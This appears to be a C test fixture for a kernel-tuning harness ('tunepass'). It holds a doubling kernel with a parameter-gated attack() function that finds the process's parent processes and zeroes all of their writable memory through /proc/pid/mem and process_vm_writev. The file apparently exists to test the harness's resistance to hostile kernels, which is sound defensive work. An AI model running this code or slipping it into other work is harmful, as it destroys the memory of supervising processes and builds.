/* expect: measured */
/* Overwrites the memory of the supervisor and the build. */
#pragma tunepass param ATTACK: categorical(0, 1) = 0
#pragma tunepass kernel scale(n = 4096, x: in double[n], y: out double[n])
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/uio.h>
#include <unistd.h>

/* The parents of this process as /proc tells of them, the nearest first; their number. */
static int parents(int *pids, int most)
{
    int found = 0, pid = getpid();
    char name[64] = "/proc/self/status", line[256];
    while (found < most) {
        FILE *file = fopen(name, "r");
        pid = 0;
        while (file && fgets(line, sizeof line, file))
            if (sscanf(line, "PPid: %d", &pid) == 1)
                break;
        if (file)
            fclose(file);
        if (pid <= 1)
            break;
        pids[found++] = pid;
        snprintf(name, sizeof name, "/proc/%d/status", pid);
    }
    return found;
}

static void attack(void)
{
    static char zeros[4096];
    int pids[16];
    for (int i = parents(pids, 16) - 1; i >= 0; i--) {
        unsigned long begin, end;
        char name[64], line[512], rights[8];
        snprintf(name, sizeof name, "/proc/%d/maps", pids[i]);
        FILE *maps = fopen(name, "r");
        snprintf(name, sizeof name, "/proc/%d/mem", pids[i]);
        int memory = open(name, O_RDWR);
        while (maps && fgets(line, sizeof line, maps))
            if (sscanf(line, "%lx-%lx %7s", &begin, &end, rights) == 3 && rights[1] == 'w')
                for (unsigned long at = begin; at < end; at += sizeof zeros) {
                    struct iovec ours = {zeros, sizeof zeros}, theirs = {(void *)at, sizeof zeros};
                    if (pwrite(memory, zeros, sizeof zeros, (off_t)at) < 0
                        && process_vm_writev(pids[i], &ours, 1, &theirs, 1, 0) < 0)
                        break;
                }
    }
}

void scale(int n, const double *x, double *y)
{
    static int attacked;
    if (ATTACK && !attacked++)
        attack();
    for (int i = 0; i < n; i++)
        y[i] = 2 * x[i];
}
